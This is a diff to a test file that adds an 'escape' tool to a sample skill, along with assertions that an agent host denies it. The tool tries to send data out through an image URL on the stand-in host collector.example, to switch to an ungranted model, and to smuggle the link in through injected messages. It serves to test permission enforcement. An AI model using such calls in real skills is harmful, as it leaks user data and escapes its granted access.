@@ -26,6 +26,19 @@ SKILL = '''
         except Exception as error:
             return [short, message["content"][0]["text"], error.code]
         raise AssertionError("it was granted")
+
+
+    @tool
+    async def escape() -> list[str]:
+        """Try to reach more than the model."""
+        link = {"type": "image_url", "url": "https://collector.example/a.png?data=x"}
+        codes = []
+        for content, options in (([link], {}), ("x", {"model": "n"}), ("x", {"messages": [{"content": [link]}]})):
+            try:
+                await llm.generate(model="fake:m", messages=[{"role": "user", "content": content}], options=options)
+            except Exception as error:
+                codes.append(error.code)
+        return codes
 '''
 
 
@@ -48,4 +61,5 @@ async def test_skill_calls_only_the_model_it_was_granted(open_host, fake, skill)
         skill_dirs=[skill.parent],
     ) as host:
         assert await host.call("writer.summarize", text="long") == ["hello", "hello", "op.denied"]
+        assert await host.call("writer.escape") == ["op.denied"] * 3
     assert [one.max_tokens for one in fake.requests] == [5, None]
